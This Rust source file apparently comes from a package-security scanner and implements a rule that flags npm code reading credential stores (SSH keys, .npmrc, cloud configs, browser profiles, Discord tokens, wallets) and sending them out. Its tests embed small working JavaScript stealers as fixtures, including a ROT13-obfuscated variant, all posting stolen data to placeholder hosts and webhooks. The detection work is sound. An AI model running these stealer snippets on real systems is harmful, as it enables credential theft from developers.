//! `code/credential-theft`.

use super::{
    SENDS, chain, describe, exfil_destination, finding, flow_finding, flows, locality, per_signal,
};
use crate::CodeFinding;
use crate::flow::{FlowPath, SinkKind, SourceKind};
use crate::signal::{FileFacts, Kind, PackageFacts, Signal};
use crate::verdict::Locality;
use diligence_finding::Severity;
use std::collections::BTreeSet;

diligence_finding::declare_rule! {
    /// Code reads credential stores (npm, SSH, cloud, Docker, Kubernetes, browser profiles, wallets) in a package that can send data.
    ///
    /// ## What it detects
    /// A value-flow path from a credential store's content to a network or DNS send: a file read whose path
    /// names a store (`.npmrc`, `.ssh/id_*`, `.aws/credentials`, `.docker/config.json`, `.kube/config`,
    /// `.git-credentials`, `.env`, browser profiles — Chromium `Login Data`/`Cookies`/`Local Storage/leveldb`,
    /// Firefox `logins.json`/`key4.db` —, Discord/Telegram token stores, wallets, shell history), the path
    /// built however (`path.join(home, f)` over a list, a directory listing), the content followed through
    /// variables, encoders, functions, callbacks and modules to the send. Critical for stores no legitimate
    /// package sends (keys, browser data, chat tokens, wallets), for two stores, or for a DNS or
    /// exfiltration-style destination; high for one service store sent to a hard-coded host; medium when the
    /// destination is not constant. Without a complete path: credential paths read in a package with a network
    /// sink, strongest when the read and the send share a file or function.
    ///
    /// ## Why it matters
    /// Stealers (Shai-Hulud, the Discord token grabbers, the hijacked utility releases) read exactly these files and
    /// post them to a webhook.
    ///
    /// ## Example
    /// `https.request(hook).end(fs.readFileSync(os.homedir() + '/.npmrc'))`
    ///
    /// ## Known false positives
    /// npm clients and registry-auth helpers read `.npmrc` to authenticate to the registry; SSH tools read keys.
    /// Without a network capability in the package nothing is reported; a mention in docs is never a read. One
    /// store read far from any send (another file, or another function of a bundle: browser automation reading
    /// Chrome's `Local State` for the last used profile) is low. A `.env` file name is reported only in a
    /// function that also sends (Next.js lists `.env`, `.env.production` to load them; its telemetry is elsewhere). In a bundle (wrangler's CLI bundles an SSH
    /// helper and the AWS SDK) stores and exfiltration ingredients corroborate only within one function. A cloud
    /// credential provider (reads `~/.aws/credentials`, asks the instance-metadata endpoint, names no other URL and
    /// carries no theft ingredient) is low. Outside bundles an ingredient corroborates only in the reading module
    /// or one it requires or is required by: a monorepo or deploy CLI (nx, firebase-tools) copying the project's
    /// `.npmrc` into the folder it builds, with an indirect `require` or an env dump in an unrelated module of its
    /// hundreds, is medium, not critical.
    pub static CREDENTIAL_THEFT = { id: "code/credential-theft", severity: Severity::High };
}

const OUT: &[SinkKind] = &[SinkKind::Network, SinkKind::Dns];

/// Stores whose content no legitimate package sends anywhere.
const PRIVATE_STORES: &[&str] = &[
    "ssh", "browser", "wallet", "gpg", "chat", "history", "keychain", "system",
];

/// One finding per path from a credential read to a send.
fn paths(p: &PackageFacts) -> Vec<CodeFinding> {
    super::one_per_sink(paths_all(p))
}

fn paths_all(p: &PackageFacts) -> Vec<CodeFinding> {
    let stores: BTreeSet<String> = flows(p, &[SourceKind::Credential], OUT)
        .map(|f| store_of(&f.from.what))
        .collect();
    flows(p, &[SourceKind::Credential], OUT)
        .take(20)
        .map(|path: &FlowPath| {
            let store = store_of(&path.from.what);
            // An outgoing request's credential copied to a constant destination: every
            // service's token collected at one place (a proxy forwarding the request has no
            // constant destination of its own).
            let tapped = store == "request-auth" && path.dest.is_some();
            let sev = if PRIVATE_STORES.contains(&store.as_str())
                || tapped
                || stores.len() >= 2
                || path.sink == SinkKind::Dns
                || exfil_destination(path.dest.as_deref())
            {
                Severity::Critical
            } else if path.dest.as_deref().is_some_and(|d| !owner_host(&store, d)) {
                // A service's token sent to a hard-coded host that is not the service.
                Severity::High
            } else {
                Severity::Medium
            };
            flow_finding(
                &CREDENTIAL_THEFT,
                sev,
                p,
                path,
                format!("credential store ({store}) is sent out: {}", describe(path)),
            )
        })
        .collect()
}

/// One finding per path from a credential read to a send, and one per (file, line) of a
/// credential path in a file that reads files or spawns.
pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
    let traced = paths(p);
    let metadata_only = super::cloud_metadata::metadata_only(p);
    // One credential store read by a networking package is what its own SDK does (a cloud SDK
    // reading `~/.aws/credentials`); several stores, or one store next to an exfiltration
    // ingredient (suspicious endpoint, env dump, hidden or obfuscated code), is a stealer. In a
    // bundle, unrelated modules share the file: there only the same function corroborates.
    let reads = |f: &FileFacts| f.has(Kind::FsRead) || f.has(Kind::Spawn);
    let corroborated_at = |f: &FileFacts, s: &Signal| {
        // Outside a bundle, the ingredient sits in this module or one it requires or is
        // required by: a 500-module CLI that copies the project's `.npmrc` into a deploy
        // folder in one module and logs `JSON.stringify(env)` of a child process in an
        // unrelated one (firebase-tools) has no module joining the two.
        let near = |of: &FileFacts, o: &Signal| {
            if super::is_bundle(of) {
                of.path == f.path && o.func == s.func
            } else {
                of.path == f.path || f.deps.contains(&of.path) || of.deps.contains(&f.path)
            }
        };
        let stores: BTreeSet<String> = p
            .all(Kind::CredentialPath)
            .filter(|(of, o)| reads(of) && near(of, o))
            .map(|(_, o)| store_of(&o.detail))
            .collect();
        stores.len() >= 2
            || CORROBORATION
                .iter()
                .any(|k| p.all(*k).any(|(of, o)| near(of, o)))
    };
    let mut out = per_signal(p, Kind::CredentialPath, |f, s| {
        if !f.has(Kind::FsRead) && !f.has(Kind::Spawn) || super::traced(&traced, f, s) {
            return None;
        }
        let loc = locality(p, f, s, SENDS);
        if loc == Locality::Alone {
            return None;
        }
        let sev = match (corroborated_at(f, s), loc >= Locality::File) {
            (true, true) => Severity::Critical,
            (true, false) => Severity::High,
            // A credential provider: its only destination is the instance-metadata endpoint.
            (false, true) if metadata_only => Severity::Low,
            (false, true) => Severity::Medium,
            (false, false) => Severity::Low,
        };
        let msg = format!(
            "credential store `{}` read in a package that sends data out",
            s.detail
        );
        Some(finding(
            &CREDENTIAL_THEFT,
            sev,
            f,
            s,
            loc,
            msg,
            chain(p, f, s, &[Kind::FsRead, Kind::Network]),
        ))
    });
    out.extend(per_signal(p, Kind::DotenvPath, |f, s| {
        // Build tools and dev servers load `.env` files and, elsewhere, talk to the network;
        // only a `.env` name next to a send in one function is reported.
        let loc = locality(p, f, s, SENDS);
        if loc < Locality::Function || !f.has(Kind::FsRead) || super::traced(&traced, f, s) {
            return None;
        }
        let msg = format!(
            "`{}` files read in a function that sends data out",
            s.detail
        );
        Some(finding(
            &CREDENTIAL_THEFT,
            Severity::Medium,
            f,
            s,
            loc,
            msg,
            chain(p, f, s, &[Kind::FsRead, Kind::Network]),
        ))
    }));
    let mut all = traced;
    all.append(&mut out);
    all
}

const CORROBORATION: &[Kind] = &[
    Kind::Endpoint,
    Kind::EnvDump,
    Kind::HiddenCode,
    Kind::HiddenModuleName,
    Kind::StringArrayRotation,
    Kind::HexIdentifiers,
    Kind::CharCodeDecoder,
    Kind::RemoteExec,
    Kind::ReverseShell,
    Kind::EnvSecretFilter,
];

/// True when `dest` (a URL or host) is a host of the service that issued the store's
/// credential (an npm token to a registry, AWS keys to `amazonaws.com`): the host is one of
/// the service's domains or a subdomain of one, or for npm a private registry whose first
/// label names it (`registry.acme.internal`, `npm.acme.internal`). A look-alike that only
/// contains a service's name (`github-stats.example`) is not the service.
fn owner_host(store: &str, dest: &str) -> bool {
    let host = crate::text::url_host(dest);
    let host = host.as_str();
    let domains: &[&str] = match store {
        "npm" => &["npmjs.org", "npmjs.com", "yarnpkg.com"],
        "aws" => &["amazonaws.com", "aws.amazon.com"],
        "docker" => &["docker.io", "docker.com"],
        "git" => &[
            "github.com",
            "githubusercontent.com",
            "gitlab.com",
            "bitbucket.org",
        ],
        "gcloud" => &["googleapis.com", "google.com"],
        "azure" => &["azure.com", "microsoft.com", "windows.net", "azurecr.io"],
        "pypi" => &["pypi.org", "python.org"],
        _ => &[],
    };
    let private_npm = store == "npm"
        && host.contains('.')
        && matches!(host.split('.').next(), Some("registry" | "npm"));
    private_npm
        || domains
            .iter()
            .any(|d| host == *d || host.strip_suffix(d).is_some_and(|sub| sub.ends_with('.')))
}

/// The credential store a path names (`.ssh/id_rsa` and `id_rsa` are both `ssh`).
fn store_of(detail: &str) -> String {
    let d = detail.to_ascii_lowercase();
    let stores = [
        ("request header", "request-auth"),
        ("npmrc", "npm"),
        ("authtoken", "npm"),
        ("ssh", "ssh"),
        ("id_rsa", "ssh"),
        ("id_ed25519", "ssh"),
        (".aws", "aws"),
        ("docker", "docker"),
        ("kube", "kube"),
        ("git-credentials", "git"),
        ("netrc", "netrc"),
        ("pypirc", "pypi"),
        ("local storage", "browser"),
        ("leveldb", "browser"),
        ("login data", "browser"),
        ("local state", "browser"),
        ("wallet", "wallet"),
        ("exodus", "wallet"),
        ("electrum", "wallet"),
        ("metamask", "wallet"),
        ("nkbihfbeogaeaoehlefnkodbefgpgknn", "wallet"),
        ("solana", "wallet"),
        ("keystore", "wallet"),
        ("gnupg", "gpg"),
        ("cookies", "browser"),
        ("web data", "browser"),
        ("logins.json", "browser"),
        ("key4.db", "browser"),
        ("key3.db", "browser"),
        ("formhistory", "browser"),
        ("discord", "chat"),
        ("tdata", "chat"),
        ("slack", "chat"),
        ("telegram", "chat"),
        ("history", "history"),
        ("keychain", "keychain"),
        ("/etc/shadow", "system"),
        ("/etc/passwd", "system"),
        ("gcloud", "gcloud"),
        ("application_default_credentials", "gcloud"),
        ("azure", "azure"),
        (".env", "dotenv"),
    ];
    stores
        .iter()
        .find(|(k, _)| d.contains(k))
        .map_or(d.clone(), |(_, v)| v.to_string())
}

#[cfg(test)]
mod tests {
    use crate::rules::test_util::{PJ, hits, scan};

    /// An outgoing request's credentials read back with `getHeader` and copied to a constant
    /// host, in other shapes than an agent subclass sending UDP: a patched
    /// `ClientRequest.prototype.end` posting cookies over HTTPS, and a function building a
    /// datagram for `send(msg, port, address)`.
    #[test]
    fn outgoing_request_header_to_a_constant_host() {
        let js = "const http = require('http');\nconst https = require('https');\nconst end = http.ClientRequest.prototype.end;\nhttp.ClientRequest.prototype.end = function (...a) {\n  const c = this.getHeader('Cookie');\n  if (c) {\n    const r = https.request({ hostname: 'telemetry.example.net', method: 'POST', path: '/t' });\n    r.end(JSON.stringify({ host: this.host, c }));\n  }\n  return end.apply(this, a);\n};\n";
        let s = scan(&[("package.json", PJ), ("index.js", js)]);
        let f = crate::rules::test_util::finding(&s, "code/credential-theft");
        assert_eq!(
            (f.line, f.severity),
            (8, diligence_finding::Severity::Critical)
        );
        let js = "const dgram = require('dgram');\nconst sock = dgram.createSocket('udp4');\nfunction report(req) {\n  const k = req.getHeader('x-api-key');\n  sock.send(Buffer.from(String(k)), 5353, '198.51.100.7');\n}\nmodule.exports = { report };\n";
        let s = scan(&[("package.json", PJ), ("index.js", js)]);
        let f = crate::rules::test_util::finding(&s, "code/credential-theft");
        assert_eq!(
            (f.line, f.severity),
            (5, diligence_finding::Severity::Critical)
        );
    }

    /// A proxy agent writes the request's `Proxy-Authorization` to the proxy it was given: no
    /// constant destination, not a tap.
    #[test]
    fn outgoing_request_header_to_the_configured_proxy() {
        let js = "const net = require('net');\nmodule.exports = function tunnel(req, proxy) {\n  const sock = net.connect(proxy.port, proxy.host);\n  sock.write('CONNECT ' + req.host + ' HTTP/1.1\\r\\nProxy-Authorization: ' + req.getHeader('proxy-authorization') + '\\r\\n\\r\\n');\n  return sock;\n};\n";
        let s = scan(&[("package.json", PJ), ("index.js", js)]);
        assert!(
            s.findings
                .iter()
                .all(|f| f.severity <= diligence_finding::Severity::Medium),
            "{:?}",
            s.findings
        );
        assert_eq!(s.verdict, crate::Verdict::Clean);
    }

    #[test]
    fn positive() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "a.js",
                "const fs = require('fs'), https = require('https'), os = require('os'), path = require('path');\nconst t = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8') + fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'));\nhttps.request('https://x.example.net').end(t);\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/credential-theft"),
            vec![("a.js".to_string(), 3)]
        );
        assert_eq!(
            s.findings[0].severity,
            diligence_finding::Severity::Critical
        );
    }

    /// Discord's token store read through a directory listing and posted to a webhook from a
    /// helper in another module.
    #[test]
    fn positive_token_store_listing_to_a_webhook() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const fs = require('fs');\nconst path = require('path');\nconst { post } = require('./util');\nconst dir = path.join(process.env.APPDATA || '', 'discord', 'Local Storage', 'leveldb');\nconst found = [];\nfor (const f of fs.readdirSync(dir)) {\n  if (f.endsWith('.ldb')) found.push(fs.readFileSync(path.join(dir, f), 'latin1'));\n}\npost(found.join('\\n'));\n",
            ),
            (
                "util.js",
                "exports.post = (content) => fetch('https://hooks.example.net/api/webhooks/1/x', { method: 'POST', body: JSON.stringify({ content }) });\n",
            ),
        ]);
        let f = crate::rules::test_util::finding(&s, "code/credential-theft");
        assert_eq!(
            (f.file.as_str(), f.line, f.severity),
            ("util.js", 1, diligence_finding::Severity::Critical)
        );
        assert_eq!(s.verdict, crate::Verdict::Malicious);
    }

    /// A registry client reads `.npmrc` for its token and sends it where its configuration
    /// says: medium.
    #[test]
    fn negative_registry_client_token_to_a_configured_host() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "client.js",
                "const fs = require('fs');\nconst os = require('os');\nconst https = require('https');\nmodule.exports = function get(registry, pkg) {\n  const rc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n  const token = /_authToken=(.*)/.exec(rc)[1];\n  return https.get(registry + pkg, { headers: { authorization: 'Bearer ' + token } });\n};\n",
            ),
        ]);
        assert_eq!(s.verdict, crate::Verdict::Clean, "{:?}", s.findings);
    }

    #[test]
    fn single_store_is_medium() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "a.js",
                "const fs = require('fs'), https = require('https');\nconst c = fs.readFileSync(require('os').homedir() + '/.aws/credentials');\nhttps.request('https://sts.amazonaws.com').end(c);\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/credential-theft"),
            vec![("a.js".to_string(), 3)]
        );
        assert_eq!(s.verdict, crate::Verdict::Clean);
        // The same keys to a hard-coded host that is not AWS.
        let s = scan(&[
            ("package.json", PJ),
            (
                "a.js",
                "const fs = require('fs'), https = require('https');\nconst c = fs.readFileSync(require('os').homedir() + '/.aws/credentials');\nhttps.request('https://keys.example.com').end(c);\n",
            ),
        ]);
        assert_eq!(s.verdict, crate::Verdict::Suspicious);
    }

    /// The service's own domains and their subdomains are its hosts; a host that only
    /// contains the service's name is not.
    #[test]
    fn owner_hosts_are_domains_not_substrings() {
        assert!(super::owner_host("aws", "https://sts.amazonaws.com/"));
        assert!(super::owner_host("git", "api.github.com"));
        assert!(super::owner_host(
            "npm",
            "https://registry.npmjs.org/-/whoami"
        ));
        assert!(super::owner_host("npm", "https://npm.acme.internal:4873/"));
        assert!(!super::owner_host(
            "git",
            "https://github-stats.example/collect"
        ));
        assert!(!super::owner_host(
            "git",
            "https://github.com.example.net/x"
        ));
        assert!(!super::owner_host("aws", "https://evilamazonaws.com/"));
        assert!(!super::owner_host(
            "npm",
            "https://user@example.net/registry"
        ));
    }

    #[test]
    fn negative_no_network() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "a.js",
                "const fs = require('fs');\nconst t = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\nmodule.exports = t;\n",
            ),
        ]);
        assert!(hits(&s, "code/credential-theft").is_empty());
    }

    /// playwright-core's bundle: Chrome's `Local State` read for the last used profile in one
    /// function, network code elsewhere in the 5 MB file.
    #[test]
    fn single_store_far_from_the_send_in_a_bundle_is_low() {
        let mut bundle = String::from(
            "const fs = require('fs'), path = require('path'), https = require('https');\nasync function lastProfile(dir) {\n  const s = JSON.parse(await fs.promises.readFile(path.join(dir, 'Local State'), 'utf-8'));\n  return s.profile.last_used;\n}\n",
        );
        while bundle.len() < super::super::BUNDLE_BYTES {
            bundle.push_str("function pad(n) { return String(n).padStart(2, '0'); }\n");
        }
        bundle.push_str("function ping(u) { return https.get(u); }\n");
        let s = scan(&[("package.json", PJ), ("lib/coreBundle.js", &bundle)]);
        assert_eq!(
            hits(&s, "code/credential-theft"),
            vec![("lib/coreBundle.js".to_string(), 3)]
        );
        assert_eq!(s.findings[0].severity, diligence_finding::Severity::Low);
        assert_eq!(s.verdict, crate::Verdict::Clean);
    }

    /// wrangler's CLI bundle: an SSH key lookup in one module, the AWS SDK's SSO cache in
    /// another, a log line naming a tunnel host in a third: nothing corroborates anything.
    #[test]
    fn stores_in_different_functions_of_a_bundle_do_not_corroborate() {
        let mut bundle = String::from(
            "const fs = require('fs'), path = require('path'), os = require('os'), https = require('https');\nfunction sshKeys() {\n  return fs.readdirSync(path.join(os.homedir(), '.ssh'));\n}\nfunction ssoCache(n) {\n  return fs.readFileSync(path.join(os.homedir(), '.aws', 'sso', 'cache', n));\n}\nfunction hint() { console.log('You get a random *.trycloudflare.com URL'); }\n",
        );
        while bundle.len() < super::super::BUNDLE_BYTES {
            bundle.push_str("function pad(n) { return String(n).padStart(2, '0'); }\n");
        }
        bundle.push_str("function ping(u) { return https.get(u); }\n");
        let s = scan(&[("package.json", PJ), ("dist/cli.js", &bundle)]);
        let cred: Vec<_> = s
            .findings
            .iter()
            .filter(|f| f.rule == "code/credential-theft")
            .map(|f| (f.line, f.severity))
            .collect();
        assert_eq!(
            cred,
            vec![
                (3, diligence_finding::Severity::Low),
                (6, diligence_finding::Severity::Low)
            ]
        );
        assert_eq!(s.verdict, crate::Verdict::Clean);
    }

    /// Next.js's build: the `.env` files to load are listed in one function, telemetry is sent
    /// from another.
    #[test]
    fn negative_dotenv_list_apart_from_the_send() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "dist/build/index.js",
                "const fs = require('fs'), https = require('https');\nfunction loadEnv(dir) {\n  return ['.env', '.env.production'].map((f) => fs.readFileSync(dir + '/' + f, 'utf8'));\n}\nfunction telemetry(ev) {\n  https.request('https://telemetry.example.com').end(JSON.stringify(ev));\n}\nmodule.exports = { loadEnv, telemetry };\n",
            ),
        ]);
        assert!(hits(&s, "code/credential-theft").is_empty());
        let s = scan(&[
            ("package.json", PJ),
            (
                "steal.js",
                "const fs = require('fs'), https = require('https');\nfunction go() {\n  const e = fs.readFileSync('.env', 'utf8');\n  https.request('https://x.example.com').end(e);\n}\ngo();\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/credential-theft"),
            vec![("steal.js".to_string(), 4)]
        );
    }

    /// Modules reached through a lazy-require `Proxy` whose trap ROT13-decodes the property
    /// name (`$.sf` is `fs`, `$.uggcf` is `https`).
    #[test]
    fn positive_lazy_require_proxy_rot13() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const rot = (s) => s.replace(/[a-z]/g, (c) => String.fromCharCode((c.charCodeAt(0) - 84) % 26 + 97));\nfunction lazy(resolve) {\n  const cache = {};\n  return new Proxy({}, { get(_t, key) { if (!(key in cache)) cache[key] = require(resolve(key)); return cache[key]; } });\n}\nconst $ = lazy(rot);\nconst dir = $.cngu.join($.bf.homedir(), '.config', 'discord', 'Local Storage', 'leveldb');\nfor (const f of $.sf.readdirSync(dir)) {\n  const t = $.sf.readFileSync($.cngu.join(dir, f), 'latin1');\n  $.uggcf.request({ hostname: 'api.example.invalid', method: 'POST' }).end(t);\n}\n",
            ),
        ]);
        assert!(!hits(&s, "code/credential-theft").is_empty());
        assert_ne!(s.verdict, crate::Verdict::Clean);
    }

    /// import-lazy style: a lazy loader of plain names used for ordinary file reads.
    #[test]
    fn negative_plain_lazy_loader() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const lazy = () => new Proxy({}, { get: (_t, k) => require(k) });\nconst $ = lazy();\nexports.read = (p) => $.fs.readFileSync($.path.join(p, 'package.json'), 'utf8');\n",
            ),
        ]);
        assert!(
            s.findings
                .iter()
                .all(|f| f.severity <= diligence_finding::Severity::Low)
        );
    }

    const COPY_RC: &str = "const fs = require('fs');\nconst path = require('path');\nconst api = require('./api');\nexports.prepare = async (root, out) => {\n  for (const name of ['.npmrc', '.yarnrc']) {\n    const f = path.join(root, name);\n    if (fs.existsSync(f)) fs.copyFileSync(f, path.join(out, name));\n  }\n  fs.writeFileSync(path.join(out, 'package.json'), fs.readFileSync(path.join(root, 'package.json')));\n  await api.deployed(out);\n};\n";
    const API: &str = "exports.deployed = (dir) => fetch('https://api.example.com/v1/deploys', { method: 'POST', body: JSON.stringify({ dir }) });\n";
    const DUMP: &str = "const fs = require('fs');\nexports.crash = (e) => fs.writeFileSync('crash.json', JSON.stringify({ e: String(e), env: JSON.stringify(process.env) }));\n";

    /// A monorepo / deploy CLI (nx, firebase-tools) copies the project's `.npmrc` into the
    /// folder it builds, in a module that calls its API client; an env dump sits in an
    /// unrelated module of the CLI. No module joins the two: medium, not critical.
    #[test]
    fn negative_cli_copies_npmrc_beside_an_unrelated_env_dump() {
        let s = scan(&[
            ("package.json", PJ),
            ("lib/deploy.js", COPY_RC),
            ("lib/api.js", API),
            ("lib/crash.js", DUMP),
        ]);
        assert_eq!(
            crate::rules::test_util::severity(&s, "code/credential-theft"),
            Some(diligence_finding::Severity::Medium)
        );
        assert_ne!(s.verdict, crate::Verdict::Malicious);
    }

    /// Its twin: the module reading `.npmrc` requires the one collecting the environment.
    #[test]
    fn positive_npmrc_read_beside_a_required_env_dump() {
        let code = COPY_RC.replace(
            "const api = require('./api');",
            "const api = require('./api');\nrequire('./crash');",
        );
        let s = scan(&[
            ("package.json", PJ),
            ("lib/deploy.js", &code),
            ("lib/api.js", API),
            ("lib/crash.js", DUMP),
        ]);
        assert_eq!(
            crate::rules::test_util::severity(&s, "code/credential-theft"),
            Some(diligence_finding::Severity::Critical)
        );
    }
}
